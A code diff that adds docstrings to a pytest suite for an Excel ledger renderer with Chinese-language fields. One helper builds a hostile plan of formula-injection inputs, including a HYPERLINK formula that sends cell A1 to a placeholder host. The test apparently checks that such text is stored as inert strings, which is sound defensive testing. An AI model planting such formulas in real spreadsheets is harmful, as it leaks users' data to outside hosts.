@@ -30,12 +30,14 @@ KEY_COL = len(HEADERS) + 1
 
 @pytest.fixture(scope="module")
 def kaiping_xlsx(seed_plans, tmp_path_factory):
+    """The Kaiping ledger, rendered once for the module."""
     path = tmp_path_factory.mktemp("ledger") / "kaiping.xlsx"
     render_ledger(seed_plans["kaiping"], path)
     return path
 
 
 def _rows(ws):
+    """Values of the measure rows."""
     return list(ws.iter_rows(min_row=FIRST_ROW, values_only=True))
 
 
@@ -136,6 +138,7 @@ def test_stats_are_live_formulas_with_a_chart(kaiping_xlsx):
 
 
 def _row_of(ws, value) -> int:
+    """The row whose first cell holds `value`."""
     return next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == value)
 
 
@@ -152,6 +155,7 @@ def test_stats_count_what_libreoffice_computes(kaiping_xlsx, tmp_path):
 
 
 def _units_column(path):
+    """The 责任单位 of every row, split."""
     ws = openpyxl.load_workbook(path)[LEDGER_SHEET]
     return [r[4].split("、") for r in _rows(ws)]
 
@@ -178,6 +182,7 @@ def test_plans_without_attachment_get_every_leaf_task(seed_plans, tmp_path, name
 
 
 def _hostile_plan() -> Plan:
+    """A plan whose texts look like formulas, error codes and control characters."""
     evil = '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")'
     measures = [
         Measure(id="1.1.m1", label="", text=evil, units=["@SUM(A1)"], deadline_text="-1+2"),
@@ -225,6 +230,7 @@ def test_a_measure_starting_with_hyperlink_is_stored_as_a_string(tmp_path):
 
 
 def _soffice() -> str:
+    """The LibreOffice binary; skip here without it, fail on CI."""
     found = shutil.which("soffice") or shutil.which("libreoffice")
     if not found:
         if os.environ.get("CI"):
